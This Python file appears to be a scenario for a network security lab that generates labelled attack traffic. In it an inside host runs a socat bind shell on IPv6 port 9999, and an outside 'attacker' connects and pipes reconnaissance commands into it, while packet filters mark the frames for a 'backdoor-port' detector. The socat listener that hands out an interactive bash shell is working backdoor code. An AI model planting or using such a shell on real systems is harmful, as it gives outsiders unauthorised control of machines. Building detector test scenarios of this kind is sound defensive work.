"""A shell behind a port of somebody's computer, over IPv6, with a terminal."""

from lab.range import Range
from lab.scenario import Scenario

ORDERS = "sleep 2; for order in id 'uname -s' 'ip address' 'head -40 /etc/services' 'ip -6 neigh'; do"
ORDERS += " echo $order; sleep 3; done; echo exit; sleep 1"


def run(net: Range) -> None:
    attacker, pc3 = net.outside("attacker"), net.inside("pc3")
    net.everyday()
    net.loop(pc3, f"curl -s -m 3 -o /dev/null http://{net.web().ip}/", 1.1)
    shell = "EXEC:/bin/bash --norc -i,pty,stderr,setsid,sigint,sane"
    pc3.start("env", "-C", "/", "PS1=\\u@\\h:\\w# ", "socat", "TCP6-LISTEN:9999,reuseaddr,fork", shell)
    net.quiet(4)
    with net.attack(
        "backdoor-port",
        by=attacker,
        attackers=[attacker.ip6],
        victims=[pc3.ip6],
        also=["reverse-shell"],
        frames=f"ip6 and ip6[6] == 6 and dst host {pc3.ip6} and dst port 9999",
        responses=f"ip6 and ip6[6] == 6 and src host {pc3.ip6} and src port 9999",
    ):
        net.tool(attacker, "sh", "-c", f"({ORDERS}) | socat - TCP6:[{pc3.ip6}]:9999", seconds=24)
    net.quiet(3)


SCENARIO = Scenario(
    name="backdoor-port-held-pty",
    about="Somebody outside uses a shell with a terminal at port 9999 of an inside host over IPv6.",
    detectors=("backdoor-port",),
    tools={"socat": "socat"},
    held_out=False,
    run=run,
)
